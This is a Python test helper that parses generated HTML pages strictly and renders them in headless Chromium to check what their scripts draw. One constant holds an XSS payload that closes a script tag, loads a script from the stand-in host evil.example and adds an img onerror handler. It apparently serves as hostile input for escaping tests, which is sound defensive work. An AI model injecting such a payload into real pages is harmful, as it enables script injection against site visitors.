"""Reads pages: strictly as HTML, and as a browser with scripts sees them."""

from __future__ import annotations

import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

VOID = {"meta", "input", "br", "img", "link", "hr"}
NASTY = '</script><script src="http://evil.example/x.js"></script><img src=x onerror=alert(1)>'
"""What a hostile row or answer may say."""


class Page(HTMLParser):
    """Reads a page; every tag must be closed, in order."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.open, self.words = [], [], []
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))
        if tag not in VOID and not (tag in ("line", "rect", "circle") and self.get_starttag_text().endswith("/>")):
            self.open.append(tag)

    def handle_startendtag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        if self.open[-1:] not in (["script"], ["style"]):
            self.words.append(data)

    @property
    def text(self):
        return " ".join(" ".join(self.words).split())


def drawn(path: Path, *, query: str = "") -> str:
    """Return a page as it is once its scripts have run; the test is skipped where no Chromium is installed."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if chromium is None:
        pytest.skip("no Chromium here: what the page's script draws was not looked at")
    options = ["--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000", "--dump-dom"]
    folder = f"--user-data-dir={path.parent / 'chromium'}"
    command = [chromium, *options, folder, f"{path.as_uri()}{query}"]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=120).stdout
